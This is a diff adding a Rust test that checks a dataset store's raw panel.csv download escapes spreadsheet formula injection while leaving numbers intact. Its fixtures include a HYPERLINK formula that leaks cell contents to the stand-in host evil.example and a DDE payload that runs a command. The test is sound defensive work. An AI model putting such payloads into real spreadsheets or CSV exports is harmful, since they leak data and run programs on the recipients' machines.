@@ -673,6 +673,68 @@ async fn concurrent_commits_store_one_and_ask_to_review_the_other() {
     assert_eq!(v3.lines().count(), 1 + 3 * 3 * 5);
 }
 
+/// The raw `panel.csv` of a version goes through the same formula-injection guard as the
+/// `/download` routes: a name a spreadsheet would run as a formula gets a leading apostrophe,
+/// numbers (negative ones too) stay numbers.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_raw_panel_csv_neutralises_formulas() {
+    let app = StoreApp::new();
+    let evil = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")";
+    let frame = polars::prelude::df!(
+        "region" => ["CN-BJ", "@SUM(A1:A9)", "CN-SH"],
+        "year" => [2020i32, 2020, 2021],
+        "indicator" => [evil, "gdp", "-cmd|' /C calc'!A0"],
+        "value" => [Some(1.5), Some(-2.25), None],
+    )
+    .unwrap();
+    let panel = nqp::types::Panel::new(frame).unwrap();
+    let id = nqp::types::DatasetId::new("evil").unwrap();
+    Store::open(app.dir.path())
+        .unwrap()
+        .put_version(
+            nqp::store::NewVersion {
+                dataset: &id,
+                base: nqp::store::Base::New,
+                title_zh: "恶意",
+                title_en: "Evil",
+                panel: &panel,
+                framework_toml: "",
+                region_set_id: None,
+                source_files: &[],
+                note: "",
+            },
+            "test",
+        )
+        .unwrap();
+    let res = app.get("/datasets/evil/1/panel.csv", None).await;
+    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
+    assert_eq!(res.headers["content-type"], "text/csv; charset=utf-8");
+    let bytes = res.body.into_bytes();
+    let got = tokio::task::spawn_blocking(move || {
+        use polars::prelude::*;
+        CsvReader::new(std::io::Cursor::new(bytes))
+            .finish()
+            .unwrap()
+    })
+    .await
+    .unwrap();
+    let text = |name: &str| -> Vec<Option<String>> {
+        let column = got.column(name).unwrap().str().unwrap().clone();
+        column.iter().map(|v| v.map(str::to_owned)).collect()
+    };
+    let some =
+        |v: &[&str]| -> Vec<Option<String>> { v.iter().map(|s| Some(s.to_string())).collect() };
+    assert_eq!(text("region"), some(&["CN-BJ", "'@SUM(A1:A9)", "CN-SH"]));
+    assert_eq!(
+        text("indicator"),
+        some(&[&format!("'{evil}"), "gdp", "'-cmd|' /C calc'!A0"])
+    );
+    let values: Vec<Option<f64>> = got.column("value").unwrap().f64().unwrap().iter().collect();
+    assert_eq!(values, [Some(1.5), Some(-2.25), None]);
+    let years: Vec<Option<i64>> = got.column("year").unwrap().i64().unwrap().iter().collect();
+    assert_eq!(years, [Some(2020), Some(2020), Some(2021)]);
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn delete_hides_a_dataset_but_keeps_its_files() {
     let app = StoreApp::new();
